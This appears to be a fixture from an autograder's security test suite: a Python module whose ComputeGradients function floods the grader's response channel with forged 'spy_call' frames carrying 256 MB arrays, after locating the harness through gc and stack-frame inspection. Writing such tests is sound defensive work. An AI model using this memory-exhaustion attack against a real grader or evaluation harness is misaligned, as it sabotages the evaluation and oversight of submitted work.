"""Attack `wire_flood_grader_memory`: the hw2_affine reference with ComputeGradients replaced by the attack.

Memory exhaustion of the grader through the answer channel: forged 'spy_call'
events for the request being served, which the grader accepts and keeps until
the request ends, each carrying a 256 MB array (the format allows 1 GiB an
array and 10,000 arrays a frame). The child needs almost no memory for this:
the same zero-filled buffer is written again and again. Bounded here to
@FLOOD_MB@ MB.

Graded by tests/integration/test_attacks.py, which fills in the @...@ placeholders.
"""
@HONEST@
@TOOLKIT@
def wrong_answer(L):
    """Right shapes, wrong values: what the attacked function returns when the attack fails."""
    import numpy as np

    return [(np.zeros(np.shape(W)), np.zeros((np.shape(W)[0], 1))) for W, _ in L]


def serving():
    """The harness object and the id of the request being served, from the frames above."""
    import gc
    import sys

    harness = next((o for o in gc.get_objects() if type(o).__name__ == "Harness"), None)
    frame, request_id = sys._getframe(), None
    while frame is not None:
        request = frame.f_locals.get("request")
        if isinstance(request, dict) and isinstance(request.get("id"), int):
            request_id = request["id"]
        frame = frame.f_back
    return harness, request_id


def raw_frame(header, blobs=()):
    """A well-formed frame, built by hand (the grader's format is public)."""
    import json

    raw = json.dumps(header).encode()
    return (b"GRD1" + struct.pack(">I", len(raw)) + raw + struct.pack(">I", len(blobs))
            + b"".join(struct.pack(">Q", len(blob)) + blob for blob in blobs))

import io

import numpy as np


def ComputeGradients(L, x, z):
    if not once("flood"):
        return None
    harness, request_id = serving()
    if harness is None or request_id is None:
        say("no harness found")
        return None
    fd = harness.responses.fileno()
    size = 256 << 20
    head = io.BytesIO()
    np.lib.format.write_array_header_1_0(head, {"descr": "|u1", "fortran_order": False, "shape": (size,)})
    blob_head = head.getvalue()
    zeros = bytes(1 << 22)
    sent, started = 0, time.monotonic()
    for index in range(max(1, int("@FLOOD_MB@") // 256)):
        os.write(fd, raw_frame({"id": request_id, "event": "spy_call", "function": "ComputeGradients", "index": index,
                                "value": {"$array": 0}}, [])[:-4] + struct.pack(">I", 1)
                 + struct.pack(">Q", len(blob_head) + size) + blob_head)
        for _ in range(size // len(zeros)):
            os.write(fd, zeros)
        sent += size
        say("sent", sent >> 20, "MB in", round(time.monotonic() - started, 2), "s")
    time.sleep(60)  # keep the request open: the grader holds every event until it ends
    return None
